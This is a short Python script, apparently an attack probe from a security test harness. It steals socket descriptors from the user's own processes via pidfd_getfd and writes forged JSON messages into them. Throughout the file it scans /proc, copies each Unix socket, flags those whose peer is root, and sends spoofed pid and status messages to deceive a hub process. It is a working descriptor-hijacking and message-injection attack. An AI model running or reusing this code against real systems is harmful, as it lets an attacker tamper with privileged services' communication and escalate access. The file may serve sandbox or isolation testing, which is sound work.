"""Get into one's own server from its first moment: copy its descriptors, and write lies for the hub to each of them.

Every own process is a target as soon as it may be inspected. `pidfd_getfd` copies its descriptors.
"""

import ctypes
import json
import os
import socket
import sys
import time

arguments = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438
tried, got, seen = 0, [], set()
until = time.monotonic() + arguments["seconds"]
lies = [b'{"pid": %d}\n' % arguments["victim"], b'{"pid": -1}\n', b'{"status": 0}\n']
while time.monotonic() < until:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if int(pid) == os.getpid() or os.stat(f"/proc/{pid}").st_uid != os.getuid():
                continue
            process = libc.syscall(PIDFD_OPEN, int(pid), 0)
            links = {int(number): os.readlink(f"/proc/{pid}/fd/{number}") for number in os.listdir(f"/proc/{pid}/fd")}
        except OSError:
            continue
        for number, link in links.items():
            if not link.startswith("socket:") or (pid, number, link) in seen:
                continue
            seen.add((pid, number, link))
            tried += 1
            taken = libc.syscall(PIDFD_GETFD, process, number, 0)
            if taken < 0:  # it has ended; or the container's seccomp profile forbids the call
                continue
            with socket.socket(fileno=taken) as own:
                try:
                    if own.family != socket.AF_UNIX:
                        continue
                    peer = own.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
                    if int.from_bytes(peer[4:8], "little") == 0:
                        got.append(f"a socket to a process of root's: descriptor {number} of {pid}")
                    for lie in lies:
                        own.send(lie, socket.MSG_DONTWAIT)
                except OSError:
                    pass
        os.close(process)
print(json.dumps({"tried": tried, "got": got}))
